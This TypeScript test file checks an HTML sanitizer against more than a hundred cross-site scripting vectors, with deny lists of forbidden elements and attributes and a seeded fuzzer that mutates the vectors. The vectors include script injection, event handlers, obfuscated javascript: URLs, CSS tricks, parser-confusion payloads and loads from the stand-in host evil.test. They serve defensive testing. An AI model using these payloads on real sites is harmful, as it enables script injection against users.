import { readFileSync } from 'node:fs';
import { describe, expect, it } from '@jest/globals';
import { parse, parseFragment, serialize, type DefaultTreeAdapterTypes } from 'parse5';
import { ELEMENTS } from './elements.js';
import { sanitizeHtml } from './sanitize.js';

type Node = DefaultTreeAdapterTypes.Node;
type Element = DefaultTreeAdapterTypes.Element;

const FORBIDDEN_ELEMENTS = new Set(
  `animate animatetransform annotation-xml applet base embed foreignobject frame frameset handler iframe image isindex link
   listener maction math-script meta noembed noframes object param plaintext pattern portal script set style symbol template use xmp`.split(
    /\s+/u,
  ),
);
const ALLOWED_ELEMENTS = new Set(Object.values(ELEMENTS).flatMap((rules) => [...rules.keys()]));
/** What a parser puts around a document by itself. */
const IMPLIED_ELEMENTS = new Set(['html', 'head', 'body']);
const ADDRESSES = new Set(
  'action background cite data dynsrc href icon longdesc lowsrc poster src vrml xlink:href'.split(' '),
);
const FORBIDDEN_ATTRIBUTE =
  /^(?:on.*|srcdoc|http-equiv|content|formaction|ping|autoplay|is|slot|attributename|from|to|values)$/u;
const SCHEMES =
  /^(?:https?|ftps?|sftp|mailto|tel|sms|news|nntp|ircs?|xmpp|sips?|magnet|geo|webcal|feed|gopher|mms|rtsp|git|svn):$/u;
const PAINT = /^(?:clip-path|color|fill|filter|marker-\w+|mask|stroke)$/u;
const SAFE_IMAGE = /^data:image\/(?:avif|bmp|gif|jpe?g|png|webp|x-icon|vnd\.microsoft\.icon);base64,/iu;
const ACTIVE_STYLE = /[\\@<>{}*]|url\s*\(|expression|behaviou?r|binding|position|z-index/iu;

/** What a tree holds that it should not. */
function violations(node: Node): string[] {
  const own = 'tagName' in node ? elementViolations(node) : [];
  const children = 'childNodes' in node ? node.childNodes : [];
  return [...own, ...children.flatMap(violations)];
}

function elementViolations({ tagName, attrs }: Element): string[] {
  const name = tagName.toLowerCase();
  const isAllowed =
    (ALLOWED_ELEMENTS.has(name) && !FORBIDDEN_ELEMENTS.has(name)) || IMPLIED_ELEMENTS.has(name);
  return [...(isAllowed ? [] : [`<${name}>`]), ...attrs.flatMap(attributeViolations)];
}

function attributeViolations(attribute: Element['attrs'][number]): string[] {
  const { prefix, value } = attribute;
  const name = (prefix ? `${prefix}:${attribute.name}` : attribute.name).toLowerCase();
  const bad =
    FORBIDDEN_ATTRIBUTE.test(name) ||
    (ADDRESSES.has(name) && !isSafeAddress(value)) ||
    (name === 'srcset' && !value.split(', ').every((candidate) => isSafeAddress(candidate))) ||
    (name === 'style' && ACTIVE_STYLE.test(value)) ||
    (PAINT.test(name) && /url\s*\(\s*[^#\s]/iu.test(value));
  return bad ? [`${name}="${value}"`] : [];
}

/** What is no address leads nowhere. */
const isSafeAddress = (value: string): boolean =>
  SAFE_IMAGE.test(value) || SCHEMES.test(URL.parse(value, 'https://page.example/')?.protocol ?? 'https:');

/** Every way that a browser could read it: as a part or a whole, with scripts on or off, once or written and read again. */
function readings(html: string): Node[] {
  return [true, false].flatMap((scriptingEnabled) => {
    const fragment = parseFragment(html, { scriptingEnabled });
    const again = parseFragment(serialize(fragment, { scriptingEnabled }), { scriptingEnabled });
    return [fragment, again, parse(html, { scriptingEnabled })];
  });
}

const PAGES = new URL('../../../test/corpora/miniflux/sanitizer/', import.meta.url);
const ATTACK = 'alert(1)';

/** One or more of each kind that the public cheat sheets know. */
const VECTORS: readonly string[] = [
  // Scripts and handlers, however written.
  `<script>${ATTACK}</script>`,
  `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
  `<scr<script>ipt>${ATTACK}</scr</script>ipt>`,
  `<<script>${ATTACK}//<</script>`,
  `<script/xss src="//evil.test"></script>`,
  `<script x>${ATTACK}</script y>`,
  `<scr\0ipt>${ATTACK}</script>`,
  `<img src=x onerror=${ATTACK}>`,
  `<img src=x oNeRrOr=${ATTACK}>`,
  `<img/src=x/onerror=${ATTACK}>`,
  `<img src="x"onerror="${ATTACK}">`,
  `<img src=x onerror\n=\n"${ATTACK}">`,
  `<img src=x\fonerror=${ATTACK}>`,
  `<img src='x'\0onerror=${ATTACK}>`,
  `<img """><script>${ATTACK}</script>">`,
  `<img src=\`x\`onerror=${ATTACK}>`,
  `<img title="\`\`onerror=${ATTACK}" src=x>`,
  `<a title='"onmouseover="${ATTACK}'>x</a>`,
  `<a title="&quot; onmouseover=${ATTACK}">x</a>`,
  `<a title=">" onclick="${ATTACK}">x</a>`,
  `<p a=1 a=2 onclick=${ATTACK} =onclick=${ATTACK}>x`,
  `<img src=x onerror=${ATTACK}`,
  `<svg onload=${ATTACK}`,
  `<body onload=${ATTACK}>`,
  `<video><source onerror="${ATTACK}"></video>`,
  `<details open ontoggle=${ATTACK}>`,
  `<input autofocus onfocus=${ATTACK}>`,
  `<marquee onstart=${ATTACK}>x</marquee>`,
  // Schemes, however spelt.
  `<a href="javascript:${ATTACK}">x</a>`,
  `<a href="JaVaScRiPt:${ATTACK}">x</a>`,
  `<a href=" &#1; javascript:${ATTACK}">x</a>`,
  `<a href="java\nscript:${ATTACK}">x</a>`,
  `<a href="java&#10;script:${ATTACK}">x</a>`,
  `<a href="java&NewLine;script&colon;${ATTACK}">x</a>`,
  `<a href="java&Tab;script:${ATTACK}">x</a>`,
  `<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58${ATTACK}">x</a>`,
  `<a href="&#x6A;avascript&#x0000003A;${ATTACK}">x</a>`,
  `<a href="javascript&colon;${ATTACK}">x</a>`,
  `<a href="\x01javascript:${ATTACK}">x</a>`,
  `<a href="java\0script:${ATTACK}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>${ATTACK}</script>">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="view-source:javascript:x">x</a><a href="file:///etc/passwd">y</a><a href="blob:x">z</a>`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<img src="data:image/png;base64,iVBORw0KGgo=" onload=x>`,
  `<img src="javascript:${ATTACK}" lowsrc="javascript:x" dynsrc="javascript:x">`,
  `<img srcset="javascript:${ATTACK}, data:text/html,x 2x, /ok.png 1x">`,
  `<img srcset="/a.png 1x, /b.png 2x onerror=${ATTACK}">`,
  `<form action="javascript:${ATTACK}"><button formaction="javascript:x">x</button></form>`,
  `<blockquote cite="javascript:x">q</blockquote><video poster="javascript:x" src="vbscript:x"></video>`,
  `<table background="javascript:${ATTACK}"><td background="javascript:x">x`,
  `<a ping="https://evil.test" href="x" target=_blank>x</a>`,
  // Styles.
  `<p style="width:expression(${ATTACK})">x`,
  `<p style="background:url(javascript:${ATTACK})">x`,
  `<p style="background-image:u\\72l(//evil.test)">x`,
  `<p style="color:red;-moz-binding:url(//evil.test#x)">x`,
  `<p style="behavior:url(x.htc)">x`,
  `<p style="@import '//evil.test'">x`,
  `<p style="width:exp/**/ression(${ATTACK})">x`,
  `<p style='color:"</p><script>x</script>'>x`,
  `<p style="font-family:'a;b:url(x)'">x`,
  `<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x`,
  `<p style="color:&#x75;rl(//evil.test)">x`,
  `<style>@import'//evil.test';</style><style><img src="</style><img src=x onerror=${ATTACK}>">`,
  `<link rel=stylesheet href="//evil.test">`,
  // Documents inside, and what changes the document around.
  `<iframe src="javascript:${ATTACK}"></iframe><iframe srcdoc="<script>x</script>">`,
  `<object data="javascript:x"><embed src="javascript:x"></object><applet code=x>y</applet>`,
  `<meta http-equiv=refresh content="0;url=javascript:${ATTACK}">`,
  `<base href="javascript:/"><base href="//evil.test/"><a href="x">y</a>`,
  `<frameset onload=x><frame src="javascript:x"></frameset>`,
  `<isindex type=image src=x onerror=x><image src=x onerror=x>`,
  `<template><script>${ATTACK}</script></template><portal src=x></portal>`,
  // Comments, declarations, sections.
  `<!--><script>${ATTACK}</script>-->`,
  `<!--[if gte IE 4]><script>${ATTACK}</script><![endif]-->`,
  `<!-- --!><img src=x onerror=${ATTACK}> -->`,
  `<!--<img src="--><img src=x onerror=${ATTACK}//">`,
  `<![CDATA[<img src="]]><img src=x onerror=${ATTACK}//">]]>`,
  `<?xml-stylesheet href="javascript:x"?><?x <script>y</script> ?>`,
  `<!DOCTYPE x [<!ENTITY y "<script>z</script>">]>&y;`,
  `<!<script>x</script>>`,
  // Text that another parser takes for tags, and back.
  `<noscript><p title="</noscript><img src=x onerror=${ATTACK}>">`,
  `<title><a title="</title><img src=x onerror=${ATTACK}>">`,
  `<textarea><a title="</textarea><img src=x onerror=${ATTACK}>"></textarea>`,
  `<textarea></textarea/><img src=x onerror=${ATTACK}></textarea>`,
  `<select><style></select><img src=x onerror=${ATTACK}></style>`,
  `<select><textarea></select><img src=x onerror=${ATTACK}>`,
  `<noembed><p title="</noembed><img src=x onerror=${ATTACK}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${ATTACK}>"><plaintext><b onclick=x>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ATTACK}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${ATTACK}>`,
  `<math><mi><table><mglyph><svg><mtext><style><a title="</style><img src onerror=${ATTACK}>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${ATTACK}></style></annotation-xml></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${ATTACK}>">`,
  `<svg><foreignObject><body onload=${ATTACK}></foreignObject></svg>`,
  `<svg><desc><noscript><a title="</noscript><img src=x onerror=${ATTACK}>"></desc>`,
  `<svg><title><style><img src="</style><img src=x onerror=${ATTACK}>">`,
  `<svg><script>alert&#40;1)</script><script href="data:,x"/></svg>`,
  `<svg><a xlink:href="javascript:${ATTACK}"><text>x</text></a><a href="java&#9;script:x"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='x'/>#x"/><use xlink:href="//evil.test#x"/></svg>`,
  `<svg><animate attributeName=href values="javascript:x"/><set attributeName=onmouseover to=${ATTACK} /></svg>`,
  `<svg><rect fill="url(//evil.test#x)" style="fill:url(x)" marker-end="url( 'x')"/></svg>`,
  `<svg><image href="javascript:x" onload=x /><style>*{x:url(y)}</style></svg>`,
  `<math href="javascript:${ATTACK}"><mi xlink:href="javascript:x">x</mi><maction actiontype="statusline#javascript:x"/></math>`,
  `<table><math><select><mi><style><img src=x onerror=${ATTACK}></style>`,
  `<a><svg><desc><math><mi><b></svg></a><p></math><i onclick=x>`,
  `<p><svg><br><p title="</svg><script>x</script>">`,
  `<b<script>x</script>`,
  `</script><script>${ATTACK}</script></p></br><br/onclick=x>`,
  `<div id="</div><script>x</script>" class='<img src=x onerror=y>'>`,
  `<a href="https://x.test/&quot;&gt;&lt;script&gt;">x</a>`,
  `&lt;script&gt;${ATTACK}&lt;/script&gt;`,
];

describe('sanitizeHtml against attacks', () => {
  it('has no dangerous element in its lists', () => {
    expect([...ALLOWED_ELEMENTS].filter((name) => FORBIDDEN_ELEMENTS.has(name))).toEqual([]);
  });

  it.each(VECTORS)('leaves nothing active of %s', (vector) => {
    for (const base of [undefined, 'https://example.org/a/']) {
      const safe = sanitizeHtml(vector, { base });
      expect(readings(safe).flatMap(violations)).toEqual([]);
      expect(sanitizeHtml(safe, { base })).toBe(safe);
    }
  });

  it.each(['miniflux_github.html', 'miniflux_wikipedia.html'])(
    'leaves nothing active of the page %s',
    (name) => {
      const page = readFileSync(new URL(name, PAGES), 'utf8');
      const safe = sanitizeHtml(page, { base: 'https://example.org/' });
      expect(readings(safe).flatMap(violations)).toEqual([]);
      expect(sanitizeHtml(safe)).toBe(safe);
    },
  );

  it('can see an attack', () => {
    const active = VECTORS.filter((vector) => readings(vector).some((tree) => violations(tree).length > 0));
    expect(active.length).toBeGreaterThan(VECTORS.length * 0.8);
  });

  it('leaves nothing active of thousands of mutations, and changes nothing twice', () => {
    const random = generator(20260401);
    for (let round = 0; round < 2_000; round++) {
      const input = mutation(random);
      const safe = sanitizeHtml(input, { base: 'https://example.org/' });
      const found = readings(safe).flatMap(violations);
      const again = sanitizeHtml(safe, { base: 'https://example.org/' });
      if (found.length > 0 || again !== safe)
        expect({ input, found, again }).toEqual({ input, found: [], again: safe });
    }
  });
});

/** Mulberry32: the same numbers on every run. */
function generator(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
  };
}

const PIECES = [
  ...'<>"\'/=&;! \0\n\f`'.split(''),
  ...'<b> </b> <p> </p> <table> <td> <select> <option> <textarea> </textarea> <noscript> </noscript> <svg> </svg>'.split(
    ' ',
  ),
  ...'<math> </math> <mi> <desc> <style> </style> <script> </script> <!-- --> <![CDATA[ ]]> <form> <a> <li>'.split(
    ' ',
  ),
  ' onclick=x ',
  ' href="javascript:x" ',
  ' style="color:red" ',
  ' title="',
];

/** Pieces of vectors, cut anywhere and put together with bits of syntax between. */
function mutation(random: (below: number) => number): string {
  let text = '';
  for (let parts = 1 + random(5); parts > 0; parts--) {
    const vector = VECTORS[random(VECTORS.length)] ?? '';
    const start = random(3) === 0 ? random(vector.length) : 0;
    const end = random(3) === 0 ? start + random(vector.length) : vector.length;
    text += vector.slice(start, end);
    for (let pieces = random(4); pieces > 0; pieces--) text += PIECES[random(PIECES.length)] ?? '';
  }
  return text;
}
